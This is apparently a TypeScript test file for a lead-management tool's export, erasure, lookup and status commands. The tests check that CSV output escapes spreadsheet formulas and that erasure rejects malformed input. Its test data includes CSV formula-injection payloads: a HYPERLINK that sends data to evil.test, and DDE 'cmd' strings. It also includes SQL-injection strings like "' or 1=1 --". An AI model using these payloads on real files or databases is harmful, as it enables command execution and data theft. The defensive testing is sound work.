import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { rowsFor } from "../../tests/support/pipeline-rows.ts";
import { openTestDatabase } from "../../tests/support/sqlite-database.ts";
import { deleteData, retry } from "./change.ts";
import { csv, eraseLeads, exportLeads } from "./leads.ts";
import type { Confirm } from "./run-command.ts";
import { show } from "./show.ts";
import { status } from "./status.ts";

const now = Date.UTC(2026, 10, 20, 15);
const guide = "clickup-mistakes";
const leadId = "eeee1111-0000-4000-8000-000000000001";

const tables = openTestDatabase();
const { db } = tables;
const rows = rowsFor(tables, now);
beforeEach(() => tables.clear());

const outbox = () => tables.query("select * from outbox order by due_at, key");
const insertLeads = (count: number) => {
  for (let nth = 0; nth < count; nth += 1) rows.lead(`lead-${String(nth).padStart(4, "0")}`);
};

const yes = () => Promise.resolve();
const erase = (typed: string, confirm: Confirm = yes) => eraseLeads(db, typed, now + 1, confirm);

describe("leads export", () => {
  let folder = "";
  beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), "leads-"))));
  afterAll(() => rm(folder, { recursive: true }));

  test("writes a file that only its owner can read, without formulas, with a column for each part of the attribution", async () => {
    const attribution = JSON.stringify({ page: "/AI4B", utm_source: "-ad", gclid: "c1" });
    rows.lead("a", { attribution, first_name: '=HYPERLINK("x")', last_name: "+1" });
    rows.lead("b", { kind: "members-offer", guide_id: null, email_key: "unsubscribed" });
    rows.lead("erased", { email: null });
    rows.lead("honeypot", { quarantined: 1 });
    tables.insert("unsubscribes", { email_key: "unsubscribed", created_at: now });
    const path = join(folder, "deep/leads.csv");
    expect((await exportLeads(db, path)).data).toEqual({ path, leads: 2 });
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    const time = "2026-11-20T15:00:00.000Z";
    expect((await readFile(path, "utf8")).split("\r\n")).toEqual([
      '"id","kind","guide_id","email","first_name","last_name","created_at","wants_marketing_mail","gclid","page","utm_source"',
      `"a","guide","clickup-mistakes","ada@example.test","'=HYPERLINK(""x"")","'+1","${time}","yes","c1","/AI4B","'-ad"`,
      `"b","members-offer","","ada@example.test","Ada","Lovelace","${time}","no","","",""`,
      "",
    ]);
  });

  test("writes more leads than one chunk holds", async () => {
    insertLeads(2_001);
    expect((await exportLeads(db, join(folder, "many.csv"))).data).toMatchObject({ leads: 2_001 });
  });
});

describe("leads erase", () => {
  test("erases one person's data and leaves the others unchanged", async () => {
    rows.lead("a", { email: "Ada@Example.test", email_key: "ada" });
    rows.lead("b", { email: "ada+tag@example.test", email_key: "ada" });
    rows.lead("c", { email: "bob@example.test", email_key: "bob" });
    tables.insert("unsubscribes", { email_key: "ada", created_at: now });
    tables.insert("orders", {
      ...{ id: "pi_1", amount: 2_700, currency: "usd", paid_at: now, created_at: now },
      ...{ email: "ada@example.test", email_key: "ada" },
    });
    rows.notetaker("aaaa-notetaker");
    const other = tables.query("select * from leads where id = 'c'");

    const asked = vi.fn(yes);
    const { text, data } = await erase(" ada@example.TEST ", asked);
    const question = "Erases 2 leads and the address of 1 orders. That cannot be undone.";
    expect(asked.mock.calls).toEqual([[question]]);
    expect(data).toMatchObject({ leads: ["a", "b"], orders: ["pi_1"] });
    expect(text).toContain("delete aaaa-notetaker");
    expect(text).not.toMatch(/example/);
    expect(tables.query("select * from leads")).toEqual(other);
    expect(tables.query("select * from orders")).toMatchObject([
      { email: null, email_key: null, amount: 2_700 },
    ]);
    expect(tables.query("select * from unsubscribes")).toHaveLength(1);
    await expect(erase("ada@example.test")).rejects.toThrow(/no lead and no order/);
  });

  test("erases a booking by the link of its guest", async () => {
    const api = "https://api.calendly.com/scheduled_events/E1";
    const bookingOf = (guest: string) =>
      JSON.stringify({ page: "book", event: api, invitee: `${api}/invitees/${guest}` });
    const nobody = { kind: "booking", guide_id: null, email: null, email_key: null };
    const names = { first_name: null, last_name: null };
    for (const guest of ["I1", "I2"]) {
      rows.lead(guest, { ...nobody, ...names, booking: bookingOf(guest), attribution: "{}" });
    }
    rows.lead("a");
    const before = tables.query("select * from leads where id <> 'I1' order by id");

    expect((await erase(` ${api}/invitees/I1 `)).data).toMatchObject({ leads: ["I1"], orders: [] });
    expect(tables.query("select * from leads order by id")).toEqual(before);
    for (const link of [`${api}/invitees/I1`, `${api}/invitees/`, "https://x.test/' or 1=1 --"]) {
      await expect(erase(link)).rejects.toThrow(/no booking of that invitee|no email/);
    }
  });

  test("erases a booking that has the address", async () => {
    rows.lead("a", { kind: "booking", guide_id: null, booking: '{"invitee":"https://i.test"}' });
    await erase("ada@example.test");
    expect(tables.query("select * from leads")).toEqual([]);
  });

  test.each(["", "ada", "a b@c.test", "%@%' or 1=1 --"])("%j is no address", async (typed) => {
    rows.lead("a");
    await expect(erase(typed)).rejects.toThrow(/no email address/);
  });

  test("a quote in an address is only a quote", async () => {
    rows.lead("a", { email: "o'neil@example.test", email_key: "o" });
    rows.lead("b");
    expect((await erase("o'neil@example.test")).data).toMatchObject({ leads: ["a"] });
  });
});

describe("a lead's id", () => {
  const about = { state: "dead", attempts: 1, finished_at: now };
  const key = `${leadId}:lead-webhook`;

  test("shows the lead without personal data, by its id or a message's key", async () => {
    rows.lead(leadId);
    rows.message(leadId, "lead-webhook", { ...about, last_error: "http_410" });
    for (const id of [leadId, "eeee", key]) {
      const { data, text } = await show(db, id, now);
      expect(data).toMatchObject({
        notetaker: null,
        lead: { id: leadId, kind: "guide", guideId: guide, hasAddress: true, wantsMail: true },
        messages: [{ key, kind: "lead-webhook", lastError: "http_410" }],
      });
      expect(text).toMatch(/wants mail +yes/);
      expect(`${text}${JSON.stringify(data)}`).not.toMatch(/Ada|Lovelace|example\.test/);
    }
  });

  test("retries its dead message under the same key", async () => {
    rows.lead(leadId);
    rows.message(leadId, "lead-webhook", about);
    rows.message(leadId, "lead-operator");
    expect((await retry(db, leadId, now)).data).toMatchObject({ due: [key] });
    const again = outbox().find((row) => row["key"] === key);
    expect(again).toMatchObject({ state: "pending", attempts: 0 });
  });

  test("is refused by delete", async () => {
    rows.lead(leadId);
    await expect(deleteData(db, leadId, now, yes)).rejects.toThrow(/leads erase EMAIL/);
  });
});

test("status counts leads by kind", async () => {
  insertLeads(3);
  rows.lead("old", { created_at: now - 8 * 86_400_000, quarantined: 1 });
  rows.lead("offer", { kind: "members-offer", guide_id: null });
  const report = await status(db, now);
  expect(report.data).toMatchObject({
    leads: [
      { kind: "guide clickup-mistakes", leads: 4, quarantined: 1, lastWeek: 3 },
      { kind: "members-offer", leads: 1, quarantined: 0, lastWeek: 1 },
    ],
  });
  expect(report.text).toContain("guide clickup-mistakes");
});

test("fields are quoted, quotes doubled, lines end with CRLF (RFC 4180)", () => {
  expect(
    csv([
      ["a", 'say "hi"', "x,y"],
      [1, null, "two\r\nlines"],
    ]),
  ).toBe('"a","say ""hi""","x,y"\r\n"1","","two\r\nlines"\r\n');
});

const formulas = [
  ...["=1+1", '=HYPERLINK("http://evil.test?x="&A1,"click")', "+1", "-1+1|cmd", "@SUM(A1:A9)"],
  ...["\t=1", "\r=1", "\n=1", "\0=1", "  =1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\tplain"],
  '=cmd|" /C calc"!A0',
];
test.each(formulas)("%j is no longer a formula", (value) => {
  const written = csv([[value]]);
  expect(written.startsWith(`"'`)).toBe(true);
  expect(written.slice(2, -3).replaceAll('""', '"')).toBe(value);
});

test.each(["Ada", "ada+tag@example.test", "a=b", "O'Neil", "https://x.test/?a=-1"])(
  "%j is not changed",
  (value) => expect(csv([[value]])).toBe(`"${value}"\r\n`),
);
